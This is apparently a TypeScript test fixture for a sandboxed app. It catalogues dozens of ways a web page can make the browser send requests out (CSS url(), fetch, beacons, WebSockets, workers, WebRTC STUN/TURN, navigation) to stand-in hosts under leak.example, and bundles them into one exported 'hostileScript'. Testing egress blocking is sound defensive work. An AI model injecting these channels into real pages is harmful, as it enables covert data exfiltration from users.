/**
 * Every way we know by which a page makes a computer send something: each is JavaScript for the page, and asks for a
 * host of its own name, so that what leaves says which trick it was. `addresses` are tried by number, without a name.
 */

const at = (trick: string): string => `https://${trick}.leak.example`;

export const addresses = { four: '203.0.113.9', six: '2001:db8:9::9' } as const;

const element = (name: string, trick: string, attributes: Readonly<Record<string, string>>): string =>
  `put(${JSON.stringify(name)}, ${JSON.stringify(attributes).replaceAll('HERE', `${at(trick)}/x`)})`;

const link = (rel: string, more: Readonly<Record<string, string>> = {}): readonly [string, string] => [
  rel,
  element('link', rel, { rel, href: 'HERE', ...more }),
];

const style = (trick: string, css: string): readonly [string, string] => [
  trick,
  `const sheet = document.createElement('style');
   sheet.append(${JSON.stringify(css.replaceAll('HERE', `${at(trick)}/x`))});
   document.head.append(sheet);
   put('p', { class: ${JSON.stringify(trick)} }).append('words')`,
];

const bare = (trick: string, code: string): readonly [string, string] => [
  trick,
  code.replaceAll('HERE', at(trick)).replaceAll('HOST', `${trick}.leak.example`),
];

export const tricks: ReadonlyMap<string, string> = new Map([
  link('dns-prefetch'),
  link('preconnect'),
  link('prefetch'),
  link('prerender'),
  link('preload', { as: 'image' }),
  link('modulepreload'),
  link('stylesheet'),
  link('icon'),
  link('apple-touch-icon'),
  link('manifest'),
  link('search', { type: 'application/opensearchdescription+xml' }),
  ['image', element('img', 'image', { src: 'HERE' })],
  ['srcset', element('img', 'srcset', { srcset: 'HERE 1x, HERE 2x' })],
  ['lazy', element('img', 'lazy', { src: 'HERE', loading: 'lazy' })],
  ['input', element('input', 'input', { type: 'image', src: 'HERE' })],
  ['background', element('table', 'background', { background: 'HERE' })],
  ['video', element('video', 'video', { src: 'HERE', preload: 'auto', autoplay: '' })],
  ['poster', element('video', 'poster', { poster: 'HERE' })],
  ['audio', element('audio', 'audio', { src: 'HERE', preload: 'auto' })],
  bare(
    'track',
    `const video = put('video', {}); put('track', { src: 'HERE/x', default: '', kind: 'captions' }, video)`,
  ),
  ['object', element('object', 'object', { data: 'HERE' })],
  ['embed', element('embed', 'embed', { src: 'HERE' })],
  ['iframe', element('iframe', 'iframe', { src: 'HERE' })],
  ['srcdoc', element('iframe', 'srcdoc', { srcdoc: '<img src="HERE"><link rel=dns-prefetch href="HERE">' })],
  ['refresh', element('iframe', 'refresh', { srcdoc: '<meta http-equiv=refresh content="0;url=HERE">' })],
  ['fenced', element('fencedframe', 'fenced', { src: 'HERE' })],
  ['webview', element('webview', 'webview', { src: 'HERE' })],
  ['script', element('script', 'script', { src: 'HERE' })],
  ['svg-image', `draw('image', { href: '${at('svg-image')}/x', width: '9', height: '9' })`],
  ['svg-use', `draw('use', { href: '${at('svg-use')}/x#y' })`],
  ['svg-filter', `draw('feImage', { href: '${at('svg-filter')}/x' })`],
  style('css-import', '@import "HERE";'),
  style('css-background', '.css-background { background: url(HERE) }'),
  style('css-font', '@font-face { font-family: f; src: url(HERE) } .css-font { font-family: f }'),
  style('css-content', '.css-content::before { content: url(HERE) }'),
  style('css-cursor', '.css-cursor { cursor: url(HERE), auto }'),
  style('css-list', '.css-list { display: list-item; list-style-image: url(HERE) }'),
  style('css-mask', '.css-mask { mask-image: url(HERE) }'),
  style('css-set', '.css-set { background: image-set("HERE" 1x) }'),
  bare(
    'sheet',
    `const sheet = new CSSStyleSheet(); sheet.replaceSync('p { background: url(HERE/x) }'); document.adoptedStyleSheets.push(sheet)`,
  ),
  bare('font-face', `const font = new FontFace('g', 'url(HERE/x)'); document.fonts.add(font); font.load()`),
  bare('fetch', `fetch('HERE/?q=note', { mode: 'no-cors' })`),
  bare('keepalive', `fetch('HERE/', { method: 'POST', body: 'note', keepalive: true, mode: 'no-cors' })`),
  bare('fetch-later', `fetchLater('HERE/', { activateAfter: 0 })`),
  bare('redirect', `fetch('lectern://app/redirect/HOST', { mode: 'no-cors' })`),
  bare('xhr', `const asked = new XMLHttpRequest(); asked.open('GET', 'HERE/'); asked.send()`),
  bare('beacon', `navigator.sendBeacon('HERE/', 'note')`),
  bare('socket', `new WebSocket('wss://HOST/')`),
  bare('events', `new EventSource('HERE/')`),
  bare('transport', `new WebTransport('HERE:443/')`),
  bare('import', `import('HERE/x.js')`),
  bare('worker', `new Worker(URL.createObjectURL(new Blob(['importScripts("HERE/x.js")'])))`),
  bare('worker-fetch', `new Worker(URL.createObjectURL(new Blob(['fetch("HERE/", {mode: "no-cors"})'])))`),
  bare('shared-worker', `new SharedWorker(URL.createObjectURL(new Blob(['importScripts("HERE/x.js")'])))`),
  bare('service-worker', `navigator.serviceWorker.register('HERE/x.js')`),
  bare('worklet', `new AudioContext().audioWorklet.addModule('HERE/x.js')`),
  bare('paint', `CSS.paintWorklet.addModule('HERE/x.js')`),
  bare('cache', `caches.open('c').then((cache) => cache.add('HERE/x'))`),
  bare(
    'speculation',
    `const rules = put('script', { type: 'speculationrules' });
    rules.textContent = JSON.stringify({ prefetch: [{ urls: ['HERE/'] }], prerender: [{ urls: ['HERE/y'] }] })`,
  ),
  bare('ping', `put('a', { href: '#x', ping: 'HERE/' }).click()`),
  bare('open', `window.open('HERE/')`),
  bare('target', `put('a', { href: 'HERE/', target: '_blank' }).click()`),
  bare('download', `put('a', { href: 'HERE/', download: 'x' }).click()`),
  bare('form', `put('form', { action: 'HERE/', method: 'POST', target: '_blank' }).submit()`),
  bare(
    'payment',
    `new PaymentRequest([{ supportedMethods: 'HERE/pay' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment()`,
  ),
  bare(
    'credentials',
    `navigator.credentials.get({ identity: { providers: [{ configURL: 'HERE/c.json', clientId: 'x' }] } })`,
  ),
  bare('storage', `document.requestStorageAccessFor('HERE')`),
  bare(
    'auction',
    `navigator.runAdAuction({ seller: 'HERE', decisionLogicURL: 'HERE/d.js', interestGroupBuyers: ['HERE'] })`,
  ),
  bare('interest', `navigator.joinAdInterestGroup({ owner: 'HERE', name: 'x', updateURL: 'HERE/u' }, 99)`),
  bare('notification', `new Notification('x', { icon: 'HERE/i.png' })`),
  bare(
    'artwork',
    `navigator.mediaSession.metadata = new MediaMetadata({ title: 'x', artwork: [{ src: 'HERE/a.png' }] })`,
  ),
  bare('place', `navigator.geolocation.getCurrentPosition(() => {}, () => {})`),
  bare('speech', `new webkitSpeechRecognition().start()`),
  bare('stun', `gather('stun:HOST:3478')`),
  bare('turn', `gather('turn:HOST:3478?transport=tcp')`),
  ['stun-four', `gather('stun:${addresses.four}:3478')`],
  ['stun-six', `gather('stun:[${addresses.six}]:3478')`],
  ['image-four', `put('img', { src: 'http://${addresses.four}/x' })`],
  ['image-six', `put('img', { src: 'http://[${addresses.six}]/x' })`],
  ['transport-four', `new WebTransport('https://${addresses.four}:443/')`],
  [
    'credentials-four',
    `navigator.credentials.get({ identity: { providers: [{ configURL: 'https://${addresses.four}/c', clientId: 'x' }] } })`,
  ],
  [
    'spelling',
    `const field = put('textarea', { spellcheck: 'true', lang: 'en' }); field.value = 'mispeled wrods'; field.focus()`,
  ],
  // The page may be gone after these.
  bare('mail', `location.href = 'mailto:x@HOST'`),
  bare('navigation', `location.href = 'HERE/'`),
]);

/** One script of all the tricks, for the page. Each fails by itself. */
export const hostileScript = `(() => {
  const put = (name, attributes, into = document.body) => {
    const made = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
    return into.appendChild(made);
  };
  const draw = (name, attributes) => {
    const space = 'http://www.w3.org/2000/svg';
    const made = document.createElementNS(space, name);
    for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
    document.body.appendChild(document.createElementNS(space, 'svg')).append(made);
  };
  const gather = (urls) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls, username: 'u', credential: 'c' }] });
    peer.createDataChannel('x');
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  };
  window.addEventListener('unhandledrejection', (event) => event.preventDefault());
  ${[...tricks.values()].map((code) => `try { ${code}; } catch {}`).join('\n')}
})(); 0`;
